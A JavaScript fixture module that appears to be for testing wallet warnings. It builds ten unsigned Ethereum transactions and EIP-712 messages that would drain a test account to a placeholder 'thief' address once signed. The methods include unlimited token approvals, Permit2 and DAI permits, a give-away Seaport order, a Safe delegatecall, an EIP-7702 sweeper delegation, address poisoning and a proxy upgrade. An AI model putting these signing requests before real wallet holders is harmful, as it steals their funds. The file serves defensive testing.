// Ten ways in which wallets of Ethereum were emptied, as request files for the account of the words everybody knows: each does its harm once it is signed.
import { keccak_256 } from '@noble/hashes/sha3.js';

const path = "m/44'/60'/0'/0/0";
export const account = '0x9858EfFD232B4033E47d90003D41EC34EcaEda94';
const thief = '0xb0b0000000000000000000000000000000005afE'.toLowerCase();
const [usdc, usdt, dai] = ['0xa0b86991c6218b36c1d19d4a2e9eb0ce3606eb48', '0xdac17f958d2ee523a2206206994597c13d831ec7', '0x6b175474e89094c44da98b954eedeac495271d0f'];
const permit2 = '0x000000000022d473030f116ddee9f6b43ac78ba3', seaport = '0x0000000000000068f116a894984e2db1123eb395';
const apes = '0xbc4ca0eda7647a8ab7c2061c2e118a18a936f13d', safe = '0x1db92e2eebc8e0c075a02bea49a2935bcd2dfcf4';
const none = `0x${'0'.repeat(40)}`, unlimited = 2n ** 256n - 1n, unlimited160 = 2n ** 160n - 1n;

const bytes = number => {
  const digits = BigInt(number).toString(16);
  return number ? Buffer.from(digits.length % 2 ? `0${digits}` : digits, 'hex') : Buffer.alloc(0);
};
const prefixed = (content, short) => {
  if (content.length < 56) { return Buffer.concat([Buffer.from([short + content.length]), content]); }
  const length = bytes(content.length);
  return Buffer.concat([Buffer.from([short + 55 + length.length]), length, content]);
};
const rlp = item => Array.isArray(item) ? prefixed(Buffer.concat(item.map(rlp)), 0xc0) : item.length === 1 && item[0] < 0x80 ? item : prefixed(item, 0x80);
const fromHex = text => Buffer.from(text.slice(2), 'hex');

const word = value => typeof value === 'string' ? value.slice(2).padStart(64, '0') : BigInt(value).toString(16).padStart(64, '0');
/** A call by its signature; what is dynamic comes as words of its own. */
const call = (signature, ...values) => `0x${Buffer.from(keccak_256(Buffer.from(signature))).toString('hex', 0, 4)}${values.map(word).join('')}`;

/** An EIP-1559 transaction on Ethereum, not signed. */
export function transaction(to, data = '0x', value = 0n) {
  const fields = [1, 7, 1_000_000_000, 30_000_000_000, 120_000].map(bytes);
  const unsigned = Buffer.concat([Buffer.from([2]), rlp([...fields, fromHex(to), bytes(value), fromHex(data), []])]);
  return { type: 'ethereum-transaction', path, unsigned: `0x${unsigned.toString('hex')}` };
}

const domainTypes = { name: 'string', version: 'string', chainId: 'uint256', verifyingContract: 'address' };
const fieldsOf = types => Object.entries(types).map(([name, type]) => ({ name, type }));
const typed = (domain, types, primaryType, message) => ({
  type: 'ethereum-typed-data', path,
  typedData: {
    types: { EIP712Domain: fieldsOf(Object.fromEntries(Object.keys(domain).map(name => [name, domainTypes[name]]))), ...Object.fromEntries(Object.entries(types).map(([name, fields]) => [name, fieldsOf(fields)])) },
    primaryType, domain, message,
  },
});

/** @type {Record<string, object>} */
export const drains = {
  'unlimited-approve': transaction(usdt, call('approve(address,uint256)', thief, unlimited)),
  'approval-for-all': transaction(apes, call('setApprovalForAll(address,bool)', thief, 1)),
  'permit2-batch': typed({ name: 'Permit2', chainId: 1, verifyingContract: permit2 }, {
    PermitBatch: { details: 'PermitDetails[]', spender: 'address', sigDeadline: 'uint256' },
    PermitDetails: { token: 'address', amount: 'uint160', expiration: 'uint48', nonce: 'uint48' },
  }, 'PermitBatch', {
    details: [usdc, usdt, dai].map(token => ({ token, amount: `${unlimited160}`, expiration: '281474976710655', nonce: '0' })), spender: thief, sigDeadline: `${unlimited}`,
  }),
  'seaport-order': typed({ name: 'Seaport', version: '1.6', chainId: 1, verifyingContract: seaport }, {
    OrderComponents: { offerer: 'address', zone: 'address', offer: 'OfferItem[]', consideration: 'ConsiderationItem[]', orderType: 'uint8', startTime: 'uint256', endTime: 'uint256', zoneHash: 'bytes32', salt: 'uint256', conduitKey: 'bytes32', counter: 'uint256' },
    OfferItem: { itemType: 'uint8', token: 'address', identifierOrCriteria: 'uint256', startAmount: 'uint256', endAmount: 'uint256' },
    ConsiderationItem: { itemType: 'uint8', token: 'address', identifierOrCriteria: 'uint256', startAmount: 'uint256', endAmount: 'uint256', recipient: 'address' },
  }, 'OrderComponents', {
    offerer: account, zone: none, orderType: 0, startTime: '1760000000', endTime: '1893456000', zoneHash: `0x${'0'.repeat(64)}`, salt: '42', conduitKey: `0x${'0'.repeat(64)}`, counter: '0',
    offer: [8585, 100].map(id => ({ itemType: 2, token: apes, identifierOrCriteria: `${id}`, startAmount: '1', endAmount: '1' })),
    consideration: [{ itemType: 0, token: none, identifierOrCriteria: '0', startAmount: '1', endAmount: '1', recipient: thief }],
  }),
  // As in February 2025: foreign code, run as the Safe's own.
  'safe-delegatecall': typed({ chainId: 1, verifyingContract: safe }, {
    SafeTx: { to: 'address', value: 'uint256', data: 'bytes', operation: 'uint8', safeTxGas: 'uint256', baseGas: 'uint256', gasPrice: 'uint256', gasToken: 'address', refundReceiver: 'address', nonce: 'uint256' },
  }, 'SafeTx', {
    to: '0x96221423681a6d52e184d440a8efcebb105c7242', value: '0', data: call('transfer(address,uint256)', '0xbdd077f651ebe7f7b3ce16fe5f2b025be2969516', 0), operation: 1,
    safeTxGas: '45746', baseGas: '0', gasPrice: '0', gasToken: none, refundReceiver: none, nonce: '71',
  }),
  'sweeper-delegation': { type: 'ethereum-authorization', path, chainId: 1, address: thief, nonce: 7 },
  'increase-allowance': transaction(usdc, call('increaseAllowance(address,uint256)', thief, unlimited)),
  'dai-permit': typed({ name: 'Dai Stablecoin', version: '1', chainId: 1, verifyingContract: dai }, {
    Permit: { holder: 'address', spender: 'address', nonce: 'uint256', expiry: 'uint256', allowed: 'bool' },
  }, 'Permit', { holder: account, spender: thief, nonce: '0', expiry: '0', allowed: true }),
  // Made to look like the friend's of the address book: the first and last characters are the same.
  'poisoned-address': transaction(`0xd8da${'5'.repeat(32)}6045`, '0x', 1_500_000_000_000_000_000n),
  'proxy-upgrade': transaction('0x43506849d7c04f9138d1a2050bbf3a0c054402dd', call('upgradeToAndCall(address,bytes)', thief, 0x40, 0)),
};

/** Whom the poisoned address imitates. */
export const friend = '0xd8dA6BF26964aF9D7eEd9e03E53415D37aA96045';
